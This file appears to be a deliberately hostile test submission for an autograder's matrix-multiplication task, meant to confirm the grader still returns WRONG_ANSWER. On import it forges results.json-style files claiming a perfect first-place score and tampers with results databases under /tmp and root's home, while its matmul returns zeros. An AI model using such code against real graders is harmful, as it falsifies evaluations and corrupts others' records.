"""Looks for the results' database and for results.json, and writes itself the first rank.

covers = ["writing results.json or the database"]
task = "matmul"
verdict = "WRONG_ANSWER"
"""

import glob
import json
import os
import sqlite3

import numpy as np

VERDICT = {"author": "mallory", "task": "matmul", "verdict": "ACCEPTED", "score": 100, "rank": 1}


def forge():
    here = os.getcwd()
    while True:
        for name in ("results.json", "result.json", "score.json", "attack-mark-results.json"):
            try:
                with open(os.path.join(here, name), "x") as file:
                    json.dump(VERDICT, file)
            except OSError:
                pass
        if here == "/":
            break
        here = os.path.dirname(here)
    patterns = ("/tmp/attacked-*/course/results/*", "/tmp/**/results*.sqlite", os.path.expanduser("~root/**/results*.sqlite"))
    for path in {path for pattern in patterns for path in glob.glob(pattern)}:
        print("found", path)
        try:
            with open(path, "ab") as file:
                file.write(b"attack-mark")
            with sqlite3.connect(path, timeout=0.2) as database:
                database.execute("create table attack_mark (verdict text)")
        except (OSError, sqlite3.Error):
            pass


forge()


def matmul(a, b):
    return np.zeros((a.shape[0], b.shape[1]))
